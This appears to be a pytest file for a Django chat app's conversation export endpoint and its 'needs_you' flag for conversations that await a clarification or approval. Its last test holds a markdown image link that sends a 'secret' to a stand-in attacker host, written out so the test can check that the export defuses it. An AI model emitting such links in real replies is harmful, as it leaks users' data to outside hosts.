"""/api/sessions/{id}/export and the sign that a conversation needs its person."""

from __future__ import annotations

import json
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from rest_framework.test import APIClient

from accounts.models import User
from chat.models import Message, Session, Step, Turn
from executions.models import Review
from tests.chat.api.conftest import client_of
from tools.models import Operation, ToolCall

pytestmark = pytest.mark.django_db


@pytest.fixture
def ann() -> User:
    return User.objects.create_user("ann")


@pytest.fixture
def anns_api(ann: User) -> APIClient:
    return client_of(ann)


@pytest.fixture
def talk(ann: User) -> Session:
    return Session.objects.create(user=ann, title="Bread & water/2")


def say(session: Session, question: str, reply: str, *, result: dict[str, Any] | None = None) -> Turn:
    """One answered turn, as its worker leaves it."""
    turn = Turn.objects.create(session=session, user=session.user, status="completed", end_reason="done")
    place = session.reserve_seqs(2)
    Message.objects.create(session=session, turn=turn, role="user", seq=place, text=question)
    Message.objects.create(
        pk=turn.answer_id, session=session, turn=turn, role="assistant", seq=place + 1, text=reply
    )
    parts: list[dict[str, Any]] = [{"kind": "text", "text": reply}]
    if result is not None:
        parts.insert(0, {"kind": "tool", "id": "c1", "name": "ask_question", "arguments": "{}"})
        ToolCall.objects.create(
            key=f"{turn.pk}:0:c1",
            turn_id=turn.pk,
            session_id=session.pk,
            step=0,
            index=0,
            call_id="c1",
            name="ask_question",
            arguments={},
            effect="pure",
            state="succeeded",
            result=result,
            attempt=1,
        )
    Step.objects.create(turn=turn, number=0, attempt=1, parts=parts)
    return turn


def exported(client: APIClient, session: Session, form: str) -> str:
    answer = client.get(f"/api/sessions/{session.pk}/export?as={form}")
    assert answer.status_code == 200
    return b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]


def test_json_export_holds_every_message_of_a_long_conversation(anns_api: APIClient, talk: Session) -> None:
    for number in range(120):
        say(talk, f"question {number}", f"answer {number}")
    whole = json.loads(exported(anns_api, talk, "json"))
    assert whole["session"]["title"] == talk.title
    assert [message["content"] for message in whole["messages"]][-2:] == ["question 119", "answer 119"]
    assert len(whole["messages"]) == 240
    assert len({message["id"] for message in whole["messages"]}) == 240


def test_markdown_export_reads_like_the_conversation(anns_api: APIClient, talk: Session) -> None:
    say(talk, "What is in bread?", "**Flour**", result={"type": "x", "message": "Looked\nit up."})
    text = exported(anns_api, talk, "markdown")
    assert text.startswith("# Bread & water/2\n")
    assert (
        text.index("What is in bread?")
        < text.index("*ask_question: Looked it up.*")
        < text.index("**Flour**")
    )
    assert text.count("## You, ") == text.count("## Answer, ") == 1


def test_export_has_what_was_answered_anew_at_its_end(anns_api: APIClient, talk: Session) -> None:
    old = say(talk, "question", "first answer")
    Turn.objects.filter(pk=old.pk).update(superseded_at=old.queued_at)
    say(talk, "question", "second answer")
    text = exported(anns_api, talk, "markdown")
    assert text.index("second answer") < text.index("# Other versions") < text.index("first answer")


def test_export_is_a_file_named_after_the_conversation(anns_api: APIClient, talk: Session) -> None:
    answer = anns_api.get(f"/api/sessions/{talk.pk}/export?as=markdown")
    assert answer["Content-Disposition"].startswith('attachment; filename="Bread--water2-')
    assert answer["Content-Type"] == "text/markdown; charset=utf-8"


def test_export_in_an_unknown_form_is_refused(anns_api: APIClient, talk: Session) -> None:
    answer = anns_api.get(f"/api/sessions/{talk.pk}/export?as=pdf")
    assert answer.status_code == 400
    assert "as" in answer.json()["error"]["fields"]


def test_export_of_anothers_conversation_is_not_found(talk: Session) -> None:
    stranger = client_of(User.objects.create_user("bob"))
    assert stranger.get(f"/api/sessions/{talk.pk}/export").status_code == 404


def needs_you(client: APIClient) -> bool:
    found: bool = client.get("/api/sessions").json()["results"][0]["needs_you"]
    return found


@pytest.mark.parametrize("kind", ["clarification_needed", "review_required", "setup_requirements"])
def test_conversation_that_ended_with_a_question_needs_its_person(
    anns_api: APIClient, talk: Session, kind: str
) -> None:
    say(talk, "Build it", "Which one?", result={"type": kind, "message": ""})
    assert needs_you(anns_api)
    say(talk, "The red one", "Done")
    assert not needs_you(anns_api)


def test_question_that_long_work_came_back_with_needs_its_person(anns_api: APIClient, talk: Session) -> None:
    turn = say(talk, "Build it", "It is being built.")
    Operation.objects.create(
        key=f"{turn.pk}:0:c1",
        session_id=talk.pk,
        turn_id=turn.pk,
        step=0,
        call_id="c1",
        tool_name="create_agent",
        arguments={},
        fingerprint="",
        status="completed",
        result={"type": "clarification_needed", "message": ""},
    )
    Turn.objects.create(
        session=talk, user=talk.user, kind="continuation", status="completed", end_reason="done"
    )
    assert needs_you(anns_api)
    say(talk, "The red one", "Done")
    assert not needs_you(anns_api)


def test_conversation_whose_run_waits_for_approval_needs_its_person(
    anns_api: APIClient, ann: User, talk: Session
) -> None:
    say(talk, "Run it", "It waits for you.")
    review = Review.objects.create(user=ann, key="one", session_id=talk.pk, name="Is this right?")
    assert needs_you(anns_api)
    Review.objects.filter(pk=review.pk).update(state=Review.State.APPROVED)
    assert not needs_you(anns_api)


def test_conversation_that_ended_with_an_answer_needs_nobody(anns_api: APIClient, talk: Session) -> None:
    say(talk, "Look", "Found", result={"type": "doc_page", "message": ""})
    assert not needs_you(anns_api)


def test_listing_with_questions_costs_the_same_for_any_number(anns_api: APIClient, ann: User) -> None:
    def cost() -> int:
        with CaptureQueriesContext(connection) as queries:
            assert anns_api.get("/api/sessions").status_code == 200
        return len(queries)

    say(Session.objects.create(user=ann), "a", "b", result={"type": "clarification_needed"})
    few = cost()
    for _ in range(5):
        say(Session.objects.create(user=ann), "a", "b", result={"type": "clarification_needed"})
    assert cost() == few


def test_an_exported_conversation_loads_no_picture_from_elsewhere(anns_api: APIClient, talk: Session) -> None:
    say(talk, "Read it", "![x](http://evil.example/?q=secret)")
    assert "\n[x](http://evil.example/?q=secret)\n" in exported(anns_api, talk, "markdown")
    answer = anns_api.get(f"/api/sessions/{talk.pk}/export?as=json")
    assert answer["Content-Type"] == "application/json", "which nobody shows as a page"
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"
